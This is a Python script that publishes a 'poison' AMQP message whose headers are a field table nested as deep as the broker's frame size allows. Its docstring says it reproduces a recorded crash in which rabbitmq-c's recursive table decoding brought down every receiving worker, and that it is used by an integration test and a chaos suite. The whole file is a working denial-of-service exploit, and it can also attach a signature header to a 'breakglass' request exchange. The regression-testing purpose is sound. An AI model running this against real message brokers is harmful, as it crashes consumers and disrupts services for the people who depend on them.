#!/usr/bin/env python3
"""Publishes a message whose AMQP headers are a table nested as deep as the negotiated frame_max allows.

The attack of issue 15.1: rabbitmq-c decodes field tables recursively, so a ~15 KB header nested a few thousand
levels deep crashed every worker that received it. Used by the integration test and the chaos suite.

usage: amqp_poison.py AMQP_URL [--exchange E] [--routing-key K] [--depth N] [--signature VALUE] [--body-file F]
Prints the depth and the header frame size it published.
"""
import argparse
import sys
import threading

import pika


def deep_table(depth):
    table = {}
    for _ in range(depth):
        table = {"": table}
    return table


def max_depth(frame_max, extra_headers_bytes):
    # content header frame: 7 header + payload + 1 end; payload = class(2) weight(2) body size(8) flags(2)
    # + headers table (4-byte length + entries). One nesting level with an empty key: key(1) 'F'(1) length(4).
    return (frame_max - 8 - 14 - 4 - extra_headers_bytes) // 6


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("url")
    parser.add_argument("--exchange", default="breakglass.requests")
    parser.add_argument("--routing-key", default="restoration.approved")
    parser.add_argument("--depth", type=int, default=0, help="0: the deepest frame_max allows")
    parser.add_argument("--signature", default=None, help="an x-breakglass-signature header value to add")
    parser.add_argument("--body-file", default=None)
    parser.add_argument("--tag", default="", help="put into the default body, so each poison message is distinct")
    args = parser.parse_args()

    body = open(args.body_file, "rb").read() if args.body_file else ('{"poison": true, "tag": "%s"}' % args.tag).encode()
    result = {}

    def run():
        sys.setrecursionlimit(400000)
        connection = pika.BlockingConnection(pika.URLParameters(args.url))
        frame_max = connection._impl.params.frame_max
        # delivery_mode (1 byte) and message_id (short string) are in the same property list.
        extra = 1 + 1 + len("poison-headers")
        headers_top = {}
        if args.signature is not None:
            headers_top["x-breakglass-signature"] = args.signature
            # key: 1 + len, type 'S' 1, length 4, value
            extra += 1 + len("x-breakglass-signature") + 1 + 4 + len(args.signature.encode())
        depth = args.depth or max_depth(frame_max, extra)
        nested = deep_table(depth)
        headers = dict(nested)
        headers.update(headers_top)
        channel = connection.channel()
        channel.confirm_delivery()
        channel.basic_publish(
            exchange=args.exchange, routing_key=args.routing_key, body=body,
            properties=pika.BasicProperties(delivery_mode=2, message_id="poison-headers", headers=headers),
            mandatory=True)
        try:
            connection.close()
        except Exception:
            pass  # confirmed already: the message is the broker's
        result["depth"] = depth
        result["frame_max"] = frame_max
        result["frame"] = 8 + 14 + 4 + 6 * depth + extra

    threading.stack_size(512 * 1024 * 1024)
    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    if "depth" not in result:
        sys.exit(1)
    print(f"published depth={result['depth']} frame_max={result['frame_max']} header_frame_bytes={result['frame']}")


if __name__ == "__main__":
    main()
